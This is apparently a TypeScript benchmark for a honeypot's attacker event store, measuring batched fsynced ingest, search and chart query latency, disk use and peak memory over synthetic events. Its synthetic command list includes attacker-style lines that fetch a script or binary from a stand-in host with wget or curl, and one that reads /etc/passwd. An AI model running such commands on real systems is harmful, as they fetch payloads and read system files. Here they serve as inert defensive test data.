// The master's event store (issue #18): durable ingest rate and query latency at 1 million stored
// events (smoke: 2 000). Ingest goes through `append` in batches of 500 — a heartbeat's upload —
// each one committed and fsynced (synchronous=FULL) before it resolves, as the ack path does.
// Queries are the analyst's: one source's events (with the total), a free-text search, the 24 h
// chart, and the attacker list. Disk is the database plus its WAL; memory is peak RSS.
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AttackerEvent } from '../shared/domain/events';
import { silentLogger } from '../shared/node/logger';
import { openEventStore } from '../main/core/attacker-events/event-store';
import { createSourceView } from '../main/core/attacker-events/source-view';
import { peakRssMiB, percentile, record, size } from './lib/results';

// DECNET_BENCH_EVENTS=10000000 is the second size: its figures are recorded as
// `events-10m.*`. Above 1 million, all but the last 200 000 events are a fill in batches of 20 000
// (not timed); the ingest figure is the last 200 000 in acked batches of 500 into the full store.
const TOTAL = Number(process.env.DECNET_BENCH_EVENTS ?? size(1_000_000, 2_000));
const BATCH = 500;
const FILL_BATCH = 20_000;
const MEASURED = TOTAL > 1_000_000 ? 200_000 : TOTAL;
const TAG = TOTAL === 1_000_000 || TOTAL < 1_000_000 ? 'events' : `events-${Math.round(TOTAL / 1e6)}m`;
const QUERIES = TOTAL > 1_000_000 ? 5 : size(50, 5);
const DAY = 86_400_000;
const END = Date.UTC(2026, 11, 1);
const SPAN = 30 * DAY;
const services = ['ssh', 'http', 'ftp', 'telnet', 'smb', 'mysql', 'redis'] as const;
const commands = [
  'uname -a',
  'cat /etc/passwd',
  'wget http://198.51.100.9/x.sh',
  'id',
  'ls -la /tmp',
  'curl -O http://203.0.113.5/bot',
];
const users = ['root', 'admin', 'ubuntu', 'oracle', 'test', 'pi'];
const src = (i: number) => `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`;

// mulberry32: a seeded generator whose low bits are as random as its high ones (an LCG's are not,
// and `% 4` of one would tie kinds to services).
let seed = 42;
const rnd = (n: number) => {
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) % n;
};

function event(i: number): AttackerEvent {
  const s = rnd(20_000);
  const kind = ['connect', 'auth', 'command', 'request'][rnd(4)]!;
  const session = `s${s}-${rnd(50)}`;
  const data: Record<string, unknown> =
    kind === 'auth'
      ? { session, method: 'password', username: users[rnd(users.length)], password: `pw${rnd(5000)}`, success: false }
      : kind === 'command'
        ? { session, user: 'root', mode: 'shell', command: commands[rnd(commands.length)] }
        : kind === 'request'
          ? { session, method: 'GET', path: `/wp-login.php?id=${rnd(100_000)}`, userAgent: 'Mozilla/5.0 (scan)' }
          : { session, port: 22, srcPort: 40_000 + rnd(20_000) };
  return {
    id: randomUUID(),
    // Mostly in order, a little jitter: workers' clocks and batching differ.
    ts: new Date(END - SPAN + Math.floor((i / TOTAL) * SPAN) + rnd(60_000)).toISOString(),
    decky: `decky-${String(rnd(50)).padStart(2, '0')}`,
    service: services[rnd(services.length)]!,
    src: src(s),
    kind,
    data,
    host: '00000000-0000-4000-8000-000000000001',
  };
}

const dir = mkdtempSync(join(tmpdir(), 'decnet-events-bench-'));
try {
  const store = await openEventStore({ dir, log: silentLogger });
  const batchMs: number[] = [];
  // Sources that exist, for the source and timeline queries.
  const known: string[] = [];
  const fillEnd = TOTAL - MEASURED;
  const f0 = performance.now();
  for (let i = 0; i < fillEnd; i += FILL_BATCH) {
    const batch = Array.from({ length: Math.min(FILL_BATCH, fillEnd - i) }, (_, k) => event(i + k));
    if (known.length < QUERIES) known.push(batch[0]!.src);
    await store.append(batch);
    if ((i / FILL_BATCH) % 50 === 0) console.log(`fill: ${i.toLocaleString('en')} events stored`);
  }
  if (fillEnd > 0) console.log(`fill: ${fillEnd} events in ${((performance.now() - f0) / 1000).toFixed(0)} s`);
  const t0 = performance.now();
  for (let i = fillEnd; i < TOTAL; i += BATCH) {
    const batch = Array.from({ length: Math.min(BATCH, TOTAL - i) }, (_, k) => event(i + k));
    if (known.length < QUERIES) known.push(batch[0]!.src);
    const b0 = performance.now();
    await store.append(batch);
    batchMs.push(performance.now() - b0);
  }
  const ingestS = (performance.now() - t0) / 1000;
  const workload = `${TOTAL.toLocaleString('en')} events stored`;
  record({
    name: `${TAG}.ingest`,
    workload: `${workload}, the last ${MEASURED.toLocaleString('en')} in batches of ${BATCH}, each committed and fsynced before it resolves (per-batch ms)`,
    unit: 'ms',
    median: percentile(batchMs, 50),
    p99: percentile(batchMs, 99),
    throughput: MEASURED / ingestS,
  });
  console.log(`ingest: ${Math.round(MEASURED / ingestS)} events/s durable (${ingestS.toFixed(1)} s)`);

  const view = createSourceView(store);
  const time = (name: string, what: string, run: (i: number) => unknown) => {
    const ms: number[] = [];
    let matched = 0;
    for (let i = 0; i < QUERIES; i++) {
      const q0 = performance.now();
      const r = run(i) as { total?: number; sources?: unknown[]; sessions?: unknown[]; buckets?: unknown[] };
      ms.push(performance.now() - q0);
      matched += r.total ?? (r.sources ?? r.sessions ?? r.buckets ?? []).length;
    }
    // What the queries found, so a figure over an empty answer shows up as one.
    console.log(`${name}: ${Math.round(matched / QUERIES)} matched on average`);
    record({
      name: name.replace(/^events\./, `${TAG}.`),
      workload: `${workload}; ${what}`,
      unit: 'ms',
      median: percentile(ms, 50),
      p99: percentile(ms, 99),
    });
    console.log(`${name}: p50 ${percentile(ms, 50).toFixed(1)} ms, p99 ${percentile(ms, 99).toFixed(1)} ms`);
  };
  time('events.query-source', 'one source: newest 100 events and the total', (i) =>
    store.list({ src: known[i % known.length]!, limit: 100 }),
  );
  time('events.query-cidr', 'a /16 source block over the last 7 days: newest 100 and the total', () =>
    store.list({ src: '10.0.0.0/16', since: new Date(END - 7 * DAY).toISOString(), limit: 100 }),
  );
  time('events.query-text', 'free text (trigram FTS) "x.sh": newest 100 and the total', () =>
    store.list({ text: 'x.sh', limit: 100 }),
  );
  time('events.query-text-rare', 'free text matching ~10 events: newest 100 and the total', (i) =>
    store.list({ text: `id=${10_000 + i}`, limit: 100 }),
  );
  time('events.chart-24h', 'per-service chart of the last 24 h, 48 buckets', () =>
    view.histogram({ since: new Date(END - DAY).toISOString(), until: new Date(END).toISOString() }, END),
  );
  time('events.sources-24h', 'attacker list of the last 24 h (200 most recent sources)', () =>
    view.sources({ since: new Date(END - DAY).toISOString(), limit: 200 }),
  );
  time('events.sources-all', 'attacker list of all time (200 most recent sources of 20 000)', () =>
    view.sources({ limit: 200 }),
  );
  time(
    'events.sources-30d',
    'attacker list of the last 30 days, i.e. every stored event (200 most recent sources)',
    () => view.sources({ since: new Date(END - SPAN - DAY).toISOString(), limit: 200 }),
  );
  time('events.timeline', 'one source: its timeline as sessions', (i) =>
    view.timeline({ src: known[i % known.length]! }),
  );

  const disk = readdirSync(dir).reduce((n, f) => n + statSync(join(dir, f)).size, 0);
  record({ name: `${TAG}.disk`, workload, unit: 'MiB', median: disk / 2 ** 20 });
  record({
    name: `${TAG}.memory`,
    workload: `${workload}, ingest then queries`,
    unit: 'MiB',
    // The figure itself is the peak RSS (the results file wants a median or a throughput per record).
    median: peakRssMiB(),
    peakRssMiB: peakRssMiB(),
  });
  console.log(
    `disk ${(disk / 2 ** 20).toFixed(0)} MiB (${Math.round(disk / TOTAL)} B/event), peak RSS ${peakRssMiB().toFixed(0)} MiB`,
  );
  await store.close();
} finally {
  rmSync(dir, { recursive: true, force: true });
}
